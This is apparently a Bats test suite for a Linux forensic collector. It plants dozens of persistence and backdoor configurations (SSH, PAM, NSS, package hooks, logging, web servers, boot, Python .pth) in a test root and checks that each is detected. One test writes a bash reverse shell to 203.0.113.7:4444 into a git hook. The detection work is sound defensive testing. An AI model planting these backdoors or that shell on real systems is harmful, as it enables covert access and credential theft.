# persist_config.bats - each setting through which something starts or gets in
# is collected, and stated as a fact: mechanism, file, command or target, user.
#
# shellcheck shell=bash disable=SC1091,SC2016,SC2030,SC2031,SC2154
. "$BATS_TEST_DIRNAME/lib.sh"

run='/usr/local/sbin/started'

setup_file() {
	planted plant_all
}

# MECHANISM FILE TEXT [USER]: an autorun of that file whose command, options,
# target or name contains the text.
fact() {
	jq -se --arg m "$1" --arg f "/$2" --arg t "$3" --arg u "${4-}" \
		'any(.konseki.autorun.mechanism == $m and
		.konseki.autorun.path == $f and
		($u == "" or .user.name == $u) and
		([.process.command_line, .konseki.autorun.options,
		.konseki.autorun.target, .konseki.autorun.name] |
		map(. // "") | any(contains($t))))' \
		"$case_file.events" >/dev/null || {
		echo "no $1 in /$2 with $3"
		jq -c --arg f "/$2" 'select(.konseki.autorun.path == $f) |
			[.konseki.autorun, .process.command_line]' \
			"$case_file.events"
		return 1
	}
	tar --zstd -tf "$archive" | grep -qxF "files/$2" || {
		echo "/$2 was not collected"
		return 1
	}
}

plant_all() {
	# ssh
	put etc/ssh/sshd_config.d/50.conf "AuthorizedKeysCommand $run %u\nAuthorizedKeysFile /var/lib/.keys/%u\nTrustedUserCAKeys /etc/ssh/ca.pub\nPermitRootLogin yes\nSubsystem sftp $run -s\nMatch User hana\n\tForceCommand $run -f"
	put home/hana/.ssh/config "Host *\n  ProxyCommand $run %h\n  LocalCommand $run -l\nMatch exec \"$run -m\""
	put home/hana/.ssh/rc "#!/bin/sh\n$run"
	put root/.rhosts "+ +"
	put root/.k5login "evil@EXAMPLE.ORG"
	put home/hana/.ssh/environment "LD_PRELOAD=/tmp/libx.so"
	# PAM, NSS
	put etc/pam.d/sshd "auth optional pam_exec.so quiet expose_authtok $run\nauth sufficient /lib/.x/pam_yes.so\nauth sufficient pam_succeed_if.so uid >= 0\nauth required pam_env.so user_readenv=1"
	put etc/pam.d/login "auth required pam_unix.so nullok\nauth sufficient pam_z.so"
	security=usr/lib/x86_64-linux-gnu/security
	export security
	mkdir -p "$root/$security"
	printf '\177ELF\2\1\1pam' | tee "$root/$security/pam_z.so" \
		>"$root/$security/pam_unix.so"
	echo "/$security/pam_unix.so" \
		>>"$root/var/lib/dpkg/info/coreutils.list"
	put etc/aliases "decode: \"|$run -d\""
	put etc/nsswitch.conf "passwd: files evil systemd\nhosts: files dns"
	# package managers
	put etc/apt/apt.conf.d/01x "APT::Update::Pre-Invoke {\"$run a\"; \"$run b\";};\nDPkg::Post-Invoke {\n\"$run c\";\n};"
	put etc/dpkg/dpkg.cfg.d/x "post-invoke=$run"
	put etc/pacman.d/hooks/x.hook "[Action]\nExec = $run"
	# logging
	put etc/logrotate.d/x "/var/log/x {\n\tpostrotate\n\t\t$run rotated\n\tendscript\n}"
	put etc/rsyslog.d/x.conf "action(type=\"omprog\" binary=\"$run --log\")"
	put etc/syslog-ng/conf.d/x.conf "destination d { program(\"$run --ng\"); };"
	put etc/audit/plugins.d/x.conf "active = yes\npath = $run\ntype = always"
	put etc/fail2ban/action.d/x.conf "[Definition]\nactionban = $run <ip>"
	# monitoring
	put etc/snmp/snmpd.conf "extend x $run --snmp\npass .1.3.6.1.4.1.8072 $run"
	put etc/zabbix/zabbix_agentd.d/x.conf "UserParameter=x.y,$run --zabbix"
	put etc/nagios/nrpe.d/x.cfg "command[check_x]=$run --nrpe"
	put etc/smartd.conf "DEVICESCAN -m root -M exec $run"
	# servers
	put etc/php/8.2/fpm/conf.d/x.ini "auto_prepend_file = /var/www/.x.php\nextension = /tmp/evil.so"
	put var/www/html/.htaccess "php_value auto_prepend_file /var/www/.y.php\nAddHandler application/x-httpd-php .jpg"
	put var/www/html/.user.ini "auto_append_file=/var/www/.z.php"
	put etc/apache2/mods-enabled/x.load "LoadModule evil_module /tmp/mod_evil.so\nCustomLog \"|$run --pipe\" combined"
	put etc/nginx/modules-enabled/x.conf "load_module /tmp/ngx_evil.so;"
	put etc/mysql/conf.d/x.cnf "[mysqld]\ninit_file = /var/lib/mysql/.init.sql"
	put etc/postgresql/15/main/postgresql.conf "shared_preload_libraries = 'evil'\narchive_command = '$run %p'"
	put etc/redis/redis.conf "loadmodule /tmp/evil.so"
	# what people run
	put home/hana/.forward "|$run --mail"
	put home/hana/.procmailrc ":0\n| $run --procmail"
	put home/hana/.vimrc "autocmd BufRead * silent !$run"
	put home/hana/.tmux.conf "run-shell '$run --tmux'"
	put home/hana/.gdbinit "shell $run --gdb"
	put home/hana/.wgetrc "use_askpass = $run"
	# the system
	put etc/ld.so.conf.d/x.conf "/opt/.lib"
	put etc/default/grub.d/99.cfg "GRUB_CMDLINE_LINUX=\"init=$run\""
	put boot/grub/grub.cfg "menuentry 'x' {\n\tlinux /vmlinuz root=/dev/sda1 init=$run\n}"
	put boot/loader/entries/x.conf "title x\noptions root=/dev/sda1 systemd.unit=evil.target"
	put etc/inittab "x:2345:respawn:$run --init"
	put etc/inetd.conf "telnet stream tcp nowait nobody $run x --inetd"
	put etc/xinetd.d/x "service x\n{\n\tserver = $run\n}"
	put etc/crypttab "sda2_crypt UUID=1 none luks,keyscript=$run"
	put etc/network/interfaces "iface eth0 inet dhcp\n\tpost-up $run --net"
	put etc/openvpn/x.conf "up \"$run --vpn\""
	put usr/lib/python3/dist-packages/x.pth "import os; os.system('$run')"
	put etc/mailcap "text/html; $run %s"
}

@test "config/ssh: commands, keys and who else may come" {
	f=etc/ssh/sshd_config.d/50.conf
	fact sshd $f "$run %u"
	fact sshd $f '/var/lib/.keys/%u'
	fact sshd $f /etc/ssh/ca.pub
	fact sshd $f 'PermitRootLogin yes'
	fact sshd $f "$run -s"
	fact sshd $f "$run -f"
	fact ssh_client home/hana/.ssh/config "$run %h" hana
	fact ssh_client home/hana/.ssh/config "$run -l" hana
	fact ssh_client home/hana/.ssh/config "$run -m" hana
	fact rhosts root/.rhosts '+ +' root
	fact kerberos_login root/.k5login evil@EXAMPLE.ORG root
	fact environment home/hana/.ssh/environment /tmp/libx.so
	fact ssh_rc home/hana/.ssh/rc "$run"
}

@test "config/pam and nss: commands, odd modules, open doors" {
	fact pam etc/pam.d/sshd "$run" root
	fact pam etc/pam.d/sshd expose_authtok
	fact pam etc/pam.d/sshd /lib/.x/pam_yes.so
	fact pam etc/pam.d/sshd 'sufficient pam_succeed_if.so uid >= 0'
	fact pam etc/pam.d/sshd user_readenv
	fact pam etc/pam.d/login "/$security/pam_unix.so" root
	fact pam etc/pam.d/login "/$security/pam_z.so" root
	[ "$(jq -r 'select(.rule.file | endswith("persist_pam_unpackaged.yml"))
		| .subject' "$case_file.findings" | sort -u | wc -l)" -eq 1 ]
	fact nss etc/nsswitch.conf libnss_evil.so.2
}

@test "config/packages: hooks of apt, dpkg and pacman" {
	fact apt_hook etc/apt/apt.conf.d/01x "$run a" root
	fact apt_hook etc/apt/apt.conf.d/01x "$run b" root
	fact apt_hook etc/apt/apt.conf.d/01x "$run c" root
	fact dpkg_hook etc/dpkg/dpkg.cfg.d/x "$run" root
	fact pacman_hook etc/pacman.d/hooks/x.hook "$run"
}

@test "config/logging: what runs beside logs" {
	fact logrotate etc/logrotate.d/x "$run rotated" root
	fact rsyslog etc/rsyslog.d/x.conf "$run --log"
	fact syslog_ng etc/syslog-ng/conf.d/x.conf "$run --ng"
	fact audit_plugin etc/audit/plugins.d/x.conf "$run"
	fact fail2ban etc/fail2ban/action.d/x.conf "$run <ip>"
}

@test "config/monitoring: snmpd, zabbix, nrpe, smartd" {
	fact snmpd etc/snmp/snmpd.conf "$run --snmp"
	fact snmpd etc/snmp/snmpd.conf "$run"
	fact monitoring etc/zabbix/zabbix_agentd.d/x.conf "$run --zabbix" zabbix
	fact monitoring etc/nagios/nrpe.d/x.cfg "$run --nrpe"
	fact smartd etc/smartd.conf "$run" root
}

@test "config/servers: what PHP, Apache, nginx and databases load" {
	fact php etc/php/8.2/fpm/conf.d/x.ini /var/www/.x.php
	fact php etc/php/8.2/fpm/conf.d/x.ini /tmp/evil.so
	fact web_server var/www/html/.htaccess /var/www/.y.php
	fact web_server var/www/html/.htaccess 'AddHandler application/x-httpd-php .jpg'
	fact php var/www/html/.user.ini /var/www/.z.php
	fact web_server etc/apache2/mods-enabled/x.load /tmp/mod_evil.so
	fact web_server etc/apache2/mods-enabled/x.load "$run --pipe"
	fact web_server etc/nginx/modules-enabled/x.conf /tmp/ngx_evil.so
	fact database etc/mysql/conf.d/x.cnf /var/lib/mysql/.init.sql
	fact database etc/postgresql/15/main/postgresql.conf evil
	fact database etc/postgresql/15/main/postgresql.conf "$run %p"
	fact database etc/redis/redis.conf /tmp/evil.so
}

@test "config/people: mail, editors, terminals" {
	jq -se --arg c "$run -d" 'any(.konseki.autorun.path == "/etc/aliases" and
		.process.command_line == $c)' "$case_file.events" >/dev/null
	fact mail_rule home/hana/.forward "$run --mail" hana
	fact mail_rule home/hana/.procmailrc "$run --procmail" hana
	fact editor home/hana/.vimrc "$run" hana
	fact terminal home/hana/.tmux.conf "$run --tmux" hana
	fact debugger home/hana/.gdbinit "$run --gdb" hana
	fact fetcher home/hana/.wgetrc "$run" hana
}

@test "config/system: loader, boot, init, network, Python" {
	fact loader_path etc/ld.so.conf.d/x.conf /opt/.lib
	fact boot_option etc/default/grub.d/99.cfg "init=$run"
	fact boot_option boot/grub/grub.cfg "init=$run"
	fact boot_option boot/loader/entries/x.conf systemd.unit=evil.target
	fact inittab etc/inittab "$run --init" root
	fact inetd etc/inetd.conf "$run x --inetd" nobody
	fact inetd etc/xinetd.d/x "$run"
	fact crypttab etc/crypttab "$run"
	fact network etc/network/interfaces "$run --net"
	fact network etc/openvpn/x.conf "$run --vpn"
	fact python_path usr/lib/python3/dist-packages/x.pth "os.system"
	fact mailcap etc/mailcap "$run %s"
}

@test "config/nested: what lies in an archive on the host starts nothing" {
	mkdir -p "$dir/n/repo/.git/hooks"
	small_root "$dir/nested"
	printf '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n' \
		>"$dir/n/repo/.git/hooks/pre-commit"
	chmod 755 "$dir/n/repo/.git/hooks/pre-commit"
	mkdir -p "$dir/nested/tmp" "$dir/nested/srv"
	tar -C "$dir/n" -czf "$dir/nested/tmp/backup.tar.gz" repo
	judge "$dir/nested"
	event '.konseki.autorun.mechanism == "git_hook" and
		.konseki.autorun.enabled == false'
	[ -z "$(found respond)" ]
	cp -r "$dir/n/repo" "$dir/nested/srv/"
	rm "$dir"/nested.*
	judge "$dir/nested"
	responds persist_network_shell.yml
}
